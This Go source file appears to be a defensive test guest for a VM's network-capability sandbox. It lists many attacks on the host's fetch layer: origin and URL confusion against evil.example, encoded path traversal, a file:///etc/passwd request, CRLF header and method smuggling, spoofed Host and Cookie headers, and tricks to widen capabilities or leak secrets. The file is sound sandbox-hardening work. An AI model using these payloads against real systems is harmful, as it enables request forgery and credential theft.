// Command net-attacker is a malicious guest holding net capabilities. Its
// input names the granted and the evil origins and lists attacks:
//
//	{"granted":"http://granted.example:1234","evil":"http://evil.example:5678",
//	 "attacks":["abs_evil","path_dotdot",...]}
//
// It performs each attack in order and returns a JSON map from result key
// (the attack name, or "attack.step" for attacks with several steps) to
// {"errno", "status", "body", "detail"}. Everything it can read (response
// status, headers and bodies, the kernel's reasons, capability
// descriptions) is also printed to stdout, so the host can check that no
// secret ever reached the guest.
//
// The grants it expects (see caps/net/guest_test.go):
//
//	web     GET, paths /search, injected Authorization, max_response_bytes 4096
//	upload  POST, paths /search/upload, max_request_bytes 1024
//	slow    GET, paths /search, timeout 500ms
//	public  like web but allow_private false
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
	gnet "github.com/mandatevm/mandate/guest-sdk/net"
)

type res struct {
	Errno  string `json:"errno"`
	Status int    `json:"status,omitempty"`
	Body   string `json:"body,omitempty"`
	Detail string `json:"detail,omitempty"`
}

type input struct {
	Granted string   `json:"granted"`
	Evil    string   `json:"evil"`
	Attacks []string `json:"attacks"`
}

var (
	in  input
	out = map[string]res{}

	web, upload, slow, public mandate.Cap
)

func errno(err error) string { return mandate.ErrnoOf(err).String() }

// show prints what the guest saw, for the host's secret check.
func show(key string, err error, resp *abi.HTTPResponse) {
	if err != nil {
		fmt.Printf("%s: %v\n", key, err)
		return
	}
	if resp != nil {
		names := make([]string, 0, len(resp.Header))
		for n := range resp.Header {
			names = append(names, n)
		}
		sort.Strings(names)
		fmt.Printf("%s: status %d\n", key, resp.Status)
		for _, n := range names {
			fmt.Printf("%s:   %s: %q\n", key, n, resp.Header[n])
		}
		fmt.Printf("%s:   body %q\n", key, resp.Body)
	}
}

func trunc(b []byte) string {
	if len(b) > 200 {
		return string(b[:200]) + "..."
	}
	return string(b)
}

// fetch performs req on c and records the outcome under key.
func fetch(key string, c mandate.Cap, req abi.HTTPRequest) (abi.HTTPResponse, error) {
	resp, err := gnet.Fetch(c, req)
	r := res{Errno: errno(err)}
	if err == nil {
		r.Status = resp.Status
		r.Body = trunc(resp.Body)
		show(key, nil, &resp)
	} else {
		show(key, err, nil)
	}
	out[key] = r
	return resp, err
}

func get(key string, c mandate.Cap, url string) (abi.HTTPResponse, error) {
	return fetch(key, c, abi.HTTPRequest{Method: "GET", URL: url})
}

func method(key, m string) {
	fetch(key, web, abi.HTTPRequest{Method: m, URL: "/search/method"})
}

func header(key, name, value string) {
	fetch(key, web, abi.HTTPRequest{Method: "GET", URL: "/search/hdr", Header: map[string][]string{name: {value}}})
}

func derive(key string, c mandate.Cap, req string) (mandate.Cap, error) {
	d, err := c.Derive([]byte(req))
	out[key] = res{Errno: errno(err)}
	show(key, err, nil)
	return d, err
}

func rec(key string, err error) {
	out[key] = res{Errno: errno(err)}
	show(key, err, nil)
}

// pattern is the body of the spliced-blob upload; the host rebuilds it.
func pattern(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i*7 + 3)
	}
	return b
}

var attacks = map[string]func(){
	"baseline": func() { get("baseline", web, "/search?q=lisbon") },

	// 1. Origins.
	"abs_evil": func() { get("abs_evil", web, in.Evil+"/search") },
	"userinfo": func() { get("userinfo", web, in.Granted+"@"+strings.TrimPrefix(in.Evil, "http://")+"/search") },
	"userinfo_same_host": func() {
		get("userinfo_same_host", web, "http://user:pass@"+strings.TrimPrefix(in.Granted, "http://")+"/search")
	},
	"backslash_authority": func() {
		get("backslash_authority", web, in.Evil+"\\@"+strings.TrimPrefix(in.Granted, "http://")+"/search")
	},
	"fragment_authority": func() {
		get("fragment_authority", web, in.Evil+"#@"+strings.TrimPrefix(in.Granted, "http://")+"/search")
	},
	"query_authority": func() {
		get("query_authority", web, in.Granted+"?@"+strings.TrimPrefix(in.Evil, "http://")+"/search")
	},
	"scheme_https": func() { get("scheme_https", web, "https://"+strings.TrimPrefix(in.Granted, "http://")+"/search") },
	"port_change":  func() { get("port_change", web, "http://granted.example:"+port(in.Evil)+"/search") },
	"port_default": func() { get("port_default", web, "http://granted.example/search") },
	"ip_literal":   func() { get("ip_literal", web, "http://127.0.0.1:"+port(in.Granted)+"/search") },
	"host_upper":   func() { get("host_upper", web, "http://GRANTED.Example:"+port(in.Granted)+"/search/host-upper") },
	"scheme_upper": func() { get("scheme_upper", web, "HTTP://granted.example:"+port(in.Granted)+"/search/scheme-upper") },
	"trailing_dot": func() { get("trailing_dot", web, "http://granted.example.:"+port(in.Granted)+"/search/trailing-dot") },
	"double_dot":   func() { get("double_dot", web, "http://granted.example..:"+port(in.Granted)+"/search") },
	"suffix_host":  func() { get("suffix_host", web, "http://granted.example.evil.example:"+port(in.Granted)+"/search") },
	"prefix_host":  func() { get("prefix_host", web, "http://evilgranted.example:"+port(in.Granted)+"/search") },
	"percent_host": func() { get("percent_host", web, "http://granted%2eexample:"+port(in.Granted)+"/search") },
	"no_scheme":    func() { get("no_scheme", web, strings.TrimPrefix(in.Evil, "http://")+"/search") },
	"file_scheme":  func() { get("file_scheme", web, "file:///etc/passwd") },
	"proto_relative": func() {
		get("proto_relative", web, "//"+strings.TrimPrefix(in.Evil, "http://")+"/search")
	},
	"proto_backslash": func() {
		get("proto_backslash", web, "/\\"+strings.TrimPrefix(in.Evil, "http://")+"/search")
	},
	"space_in_url": func() { get("space_in_url", web, "/search x") },

	// 2. Paths.
	"path_dotdot":        func() { get("path_dotdot", web, "/search/../admin") },
	"path_enc_dotdot":    func() { get("path_enc_dotdot", web, "/search/%2e%2e/admin") },
	"path_enc_dotdot_uc": func() { get("path_enc_dotdot_uc", web, "/search/%2E%2E/admin") },
	"path_mixed_dot":     func() { get("path_mixed_dot", web, "/search/.%2e/admin") },
	"path_enc_slash":     func() { get("path_enc_slash", web, "/search%2f..%2fadmin") },
	"path_enc_slash_uc":  func() { get("path_enc_slash_uc", web, "/search%2F..%2Fadmin") },
	"path_enc_backslash": func() { get("path_enc_backslash", web, "/search/..%5cadmin") },
	"path_backslash":     func() { get("path_backslash", web, "/search\\..\\admin") },
	"path_network":       func() { get("path_network", web, "//evil.example/x") },
	"path_no_boundary":   func() { get("path_no_boundary", web, "/searchadmin") },
	"path_dotdot_semi":   func() { get("path_dotdot_semi", web, "/search/..;/admin") },
	"path_dotdot_nul":    func() { get("path_dotdot_nul", web, "/search/..%00/admin") },
	"path_double_enc":    func() { get("path_double_enc", web, "/search/%252e%252e/admin") },
	"path_deep_dotdot":   func() { get("path_deep_dotdot", web, "/search/a/../../admin") },
	"path_dotdot_end":    func() { get("path_dotdot_end", web, "/search/..") },
	"path_case":          func() { get("path_case", web, "/SEARCH/x") },
	"path_abs_dotdot":    func() { get("path_abs_dotdot", web, in.Granted+"/search/../admin") },
	"path_bad_escape":    func() { get("path_bad_escape", web, "/search/%zz") },
	"path_overlong_utf8": func() { get("path_overlong_utf8", web, "/search/%c0%ae%c0%ae/admin") },
	"path_iis_unicode":   func() { get("path_iis_unicode", web, "/search/%u002e%u002e/admin") },
	"path_semicolon_seg": func() { get("path_semicolon_seg", web, "/search;/../admin") },
	"port_leading_zero": func() {
		get("port_leading_zero", web, "http://granted.example:0"+port(in.Granted)+"/search/leading-zero")
	},
	"port_plus":           func() { get("port_plus", web, "http://granted.example:+"+port(in.Granted)+"/search") },
	"path_normalised":     func() { get("path_normalised", web, "/search/./a/../b//c") },
	"path_query_dotdot":   func() { get("path_query_dotdot", web, "/search?next=/../admin") },
	"path_fragment":       func() { get("path_fragment", web, "/search#/../../admin") },
	"path_unicode_dots":   func() { get("path_unicode_dots", web, "/search/\u2025/admin") },
	"path_fullwidth_dots": func() { get("path_fullwidth_dots", web, "/search/\uff0e\uff0e/admin") },

	// 3. Methods.
	"method_post":    func() { method("method_post", "POST") },
	"method_lower":   func() { method("method_lower", "get") },
	"method_mixed":   func() { method("method_mixed", "gEt") },
	"method_head":    func() { method("method_head", "HEAD") },
	"method_connect": func() { method("method_connect", "CONNECT") },
	"method_trace":   func() { method("method_trace", "TRACE") },
	"method_track":   func() { method("method_track", "TRACK") },
	"method_space":   func() { method("method_space", "GE T") },
	"method_crlf":    func() { method("method_crlf", "GET\r\nX-Evil: 1") },

	// 4. Headers.
	"hdr_injected":       func() { header("hdr_injected", "Authorization", "Bearer guest-chosen") },
	"hdr_injected_lower": func() { header("hdr_injected_lower", "authorization", "Bearer guest-chosen") },
	"hdr_host":           func() { header("hdr_host", "Host", "evil.example") },
	"hdr_te":             func() { header("hdr_te", "Transfer-Encoding", "chunked") },
	"hdr_cl":             func() { header("hdr_cl", "Content-Length", "100") },
	"hdr_connection":     func() { header("hdr_connection", "Connection", "close, Authorization") },
	"hdr_cookie":         func() { header("hdr_cookie", "Cookie", "session=stolen") },
	"hdr_proxy_auth":     func() { header("hdr_proxy_auth", "Proxy-Authorization", "Basic eA==") },
	"hdr_crlf_value":     func() { header("hdr_crlf_value", "X-Test", "a\r\nX-Evil: 1") },
	"hdr_lf_value":       func() { header("hdr_lf_value", "X-Test", "a\nX-Evil: 1") },
	"hdr_nul_value":      func() { header("hdr_nul_value", "X-Test", "a\x00b") },
	"hdr_crlf_name":      func() { header("hdr_crlf_name", "X-Test\r\nX-Evil", "1") },
	"hdr_too_many": func() {
		h := map[string][]string{}
		for i := 0; i < 200; i++ {
			h[fmt.Sprintf("X-N-%d", i)] = []string{"v"}
		}
		fetch("hdr_too_many", web, abi.HTTPRequest{Method: "GET", URL: "/search/too-many", Header: h})
	},
	"echo_trailer":      func() { get("echo_trailer", web, "/search/echo-trailer") },
	"resp_huge_header":  func() { get("resp_huge_header", web, "/search/huge-header") },
	"resp_giant_header": func() { get("resp_giant_header", web, "/search/giant-header") },
	"hdr_pseudo":        func() { header("hdr_pseudo", ":authority", "evil.example") },
	"hdr_benign":        func() { header("hdr_benign", "X-Custom", "fine") },
	"echo_headers":      func() { get("echo_headers", web, "/search/echo-headers") },
	"echo_body":         func() { get("echo_body", web, "/search/echo-body") },
	"echo_location":     func() { get("echo_location", web, "/search/echo-location") },
	// Echoes the verbatim check may miss: the secret reflected in a
	// header name (which the client canonicalises), in a gzip body the
	// guest asked for, or split across Range requests.
	"echo_header_name": func() { get("echo_header_name", web, "/search/echo-header-name") },
	"echo_gzip": func() {
		resp, err := fetch("echo_gzip", web, abi.HTTPRequest{Method: "GET", URL: "/search/echo-gzip", Header: map[string][]string{"Accept-Encoding": {"gzip"}}})
		if err != nil {
			return
		}
		zr, err := gzip.NewReader(bytes.NewReader(resp.Body))
		if err != nil {
			return
		}
		plain, _ := io.ReadAll(zr)
		fmt.Printf("echo_gzip: decompressed %q\n", plain)
		r := out["echo_gzip"]
		r.Detail = string(plain)
		out["echo_gzip"] = r
	},
	"echo_range": func() {
		var all []byte
		r := res{Errno: "ESUCCESS"}
		for off := 0; off < 4096; off += 16 {
			resp, err := gnet.Fetch(web, abi.HTTPRequest{Method: "GET", URL: "/search/echo-range",
				Header: map[string][]string{"Range": {fmt.Sprintf("bytes=%d-%d", off, off+15)}}})
			if err != nil {
				r.Errno = errno(err)
				show("echo_range", err, nil)
				break
			}
			r.Status = resp.Status
			if resp.Status != 206 {
				break
			}
			all = append(all, resp.Body...)
		}
		fmt.Printf("echo_range: reassembled %q\n", all)
		r.Detail = string(all)
		out["echo_range"] = r
	},
	"cookie_stripped": func() {
		resp, err := get("cookie_stripped", web, "/search/cookie")
		if err == nil {
			r := out["cookie_stripped"]
			_, has := resp.Header["Set-Cookie"]
			r.Detail = fmt.Sprintf("set-cookie=%v", has)
			out["cookie_stripped"] = r
		}
	},

	// 5. Redirects.
	"redir_evil":       func() { get("redir_evil", web, "/search/r-evil") },
	"redir_evil_proto": func() { get("redir_evil_proto", web, "/search/r-evil-proto") },
	"redir_userinfo":   func() { get("redir_userinfo", web, "/search/r-userinfo") },
	"redir_https":      func() { get("redir_https", web, "/search/r-https") },
	"redir_admin":      func() { get("redir_admin", web, "/search/r-admin") },
	"redir_dotdot":     func() { get("redir_dotdot", web, "/search/r-dotdot") },
	"redir_loop":       func() { get("redir_loop", web, "/search/r-loop") },
	"redir_ok":         func() { get("redir_ok", web, "/search/r-ok") },
	"redir_307_evil": func() {
		fetch("redir_307_evil", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload/r307-evil", Body: []byte("payload")})
	},
	"redir_303_get": func() {
		// 303 turns POST into GET, which upload does not allow.
		fetch("redir_303_get", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload/r303", Body: []byte("payload")})
	},

	// 6. Sizes and blobs.
	"resp_big":          func() { get("resp_big", web, "/search/big") },
	"resp_many_headers": func() { get("resp_many_headers", web, "/search/many-headers") },
	"resp_big_chunked":  func() { get("resp_big_chunked", web, "/search/big-chunked") },
	"req_big_inline": func() {
		fetch("req_big_inline", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", Body: make([]byte, 2048)})
	},
	"req_big_blob": func() {
		b, err := mandate.NewBlob(make([]byte, 2048))
		if err != nil {
			rec("req_big_blob", err)
			return
		}
		fetch("req_big_blob", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", BodyBlob: b.Handle()})
	},
	"blob_invented": func() {
		fetch("blob_invented", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", BodyBlob: abi.MakeHandle(4000, 9)})
	},
	"blob_is_cap": func() {
		fetch("blob_is_cap", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", BodyBlob: web.Handle()})
	},
	"blob_and_body": func() {
		b, _ := mandate.NewBlob([]byte("x"))
		fetch("blob_and_body", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", Body: []byte("y"), BodyBlob: b.Handle()})
	},
	"blob_ok": func() {
		b, err := mandate.NewBlob(pattern(700))
		if err != nil {
			rec("blob_ok", err)
			return
		}
		fetch("blob_ok", upload, abi.HTTPRequest{Method: "POST", URL: "/search/upload", BodyBlob: b.Handle()})
	},

	// 7. Timeouts.
	"hang":       func() { get("hang", slow, "/search/hang") },
	"hang_body":  func() { get("hang_body", slow, "/search/hang-body") },
	"after_hang": func() { get("after_hang", slow, "/search/after-hang") },

	// 8. Narrowing.
	"derive_widen_paths":     func() { derive("derive_widen_paths", web, `{"paths":["/"]}`) },
	"derive_widen_response":  func() { derive("derive_widen_response", web, `{"max_response_bytes":8192}`) },
	"derive_widen_methods":   func() { derive("derive_widen_methods", web, `{"methods":["GET","POST"]}`) },
	"derive_widen_timeout":   func() { derive("derive_widen_timeout", web, `{"timeout":"1h"}`) },
	"derive_widen_private":   func() { derive("derive_widen_private", public, `{"allow_private":true}`) },
	"derive_other_origin":    func() { derive("derive_other_origin", web, `{"origin":"`+in.Evil+`"}`) },
	"derive_widen_request":   func() { derive("derive_widen_request", upload, `{"max_request_bytes":"2KiB"}`) },
	"derive_widen_redirects": func() { derive("derive_widen_redirects", web, `{"max_redirects":4}`) },
	"derive_drop_unknown":    func() { derive("derive_drop_unknown", web, `{"drop_headers":["X-Not-Injected"]}`) },
	"dropped_header": func() {
		d, err := derive("dropped_header.derive", web, `{"drop_headers":["Authorization"]}`)
		if err != nil {
			return
		}
		fetch("dropped_header.set", d, abi.HTTPRequest{Method: "GET", URL: "/search/dropped-set", Header: map[string][]string{"Authorization": {"Bearer guest-chosen"}}})
		fetch("dropped_header.set_lower", d, abi.HTTPRequest{Method: "GET", URL: "/search/dropped-set", Header: map[string][]string{"AUTHORIZATION": {"Bearer guest-chosen"}}})
		get("dropped_header.plain", d, "/search/dropped")
		// Narrowing the dropped child again (dropping nothing) cannot bring
		// the header back.
		d2, err := d.Derive([]byte(`{"drop_headers":[]}`))
		rec("dropped_header.rederive", err)
		if err == nil {
			get("dropped_header.rederived_fetch", d2, "/search/dropped")
			fetch("dropped_header.rederived_set", d2, abi.HTTPRequest{Method: "GET", URL: "/search/dropped-set", Header: map[string][]string{"Authorization": {"Bearer guest-chosen"}}})
		}
	},
	"narrow_path": func() {
		d, err := derive("narrow_path.derive", web, `{"paths":["/search/narrow"]}`)
		if err != nil {
			return
		}
		get("narrow_path.outside", d, "/search/other")
		get("narrow_path.no_boundary", d, "/search/narrowx")
		get("narrow_path.dotdot", d, "/search/narrow/../other")
		get("narrow_path.inside", d, "/search/narrow/ok")
		_, err = d.Derive([]byte(`{"paths":["/search"]}`))
		rec("narrow_path.rewiden", err)
	},
	"narrow_private": func() {
		d, err := derive("narrow_private.derive", web, `{"allow_private":false}`)
		if err != nil {
			return
		}
		get("narrow_private.fetch", d, "/search/narrow-private")
	},
	"revoke_parent": func() {
		p, err := derive("revoke_parent.parent", web, `{"paths":["/search"]}`)
		if err != nil {
			return
		}
		c, err := derive("revoke_parent.child", p, `{"paths":["/search/rev"]}`)
		if err != nil {
			return
		}
		get("revoke_parent.before", c, "/search/rev/before")
		rec("revoke_parent.revoke", p.Revoke())
		get("revoke_parent.child_fetch", c, "/search/rev/after")
		_, err = c.Derive([]byte(`{}`))
		rec("revoke_parent.child_derive", err)
		get("revoke_parent.root_fetch", web, "/search/rev-root-still-ok")
	},

	// 9. Private addresses.
	"private_dial": func() { get("private_dial", public, "/search/private") },

	"describe": func() {
		var all []string
		for _, c := range []mandate.Cap{web, upload, slow, public} {
			d, err := c.Describe()
			if err != nil {
				rec("describe", err)
				return
			}
			fmt.Printf("describe: %s\n", d)
			all = append(all, string(d))
		}
		out["describe"] = res{Errno: "ESUCCESS", Detail: strings.Join(all, "\n")}
	},

	// Last: revoke the root grant itself.
	"revoke_root": func() {
		c, err := derive("revoke_root.child", web, `{"paths":["/search/late"]}`)
		if err != nil {
			return
		}
		rec("revoke_root.revoke", web.Revoke())
		get("revoke_root.child_fetch", c, "/search/late")
		get("revoke_root.root_fetch", web, "/search/late")
	},
}

func port(origin string) string { return origin[strings.LastIndexByte(origin, ':')+1:] }

func main() {
	raw, err := mandate.InputBytes()
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(raw, &in); err != nil {
		panic(err)
	}
	for name, c := range map[string]*mandate.Cap{"web": &web, "upload": &upload, "slow": &slow, "public": &public} {
		if *c, err = mandate.Lookup(name); err != nil {
			panic(err)
		}
	}
	for _, a := range in.Attacks {
		f, ok := attacks[a]
		if !ok {
			out[a] = res{Errno: "UNKNOWN_ATTACK"}
			continue
		}
		f()
	}
	b, err := json.Marshal(out)
	if err != nil {
		panic(err)
	}
	if err := mandate.SetResult(b); err != nil {
		panic(err)
	}
}
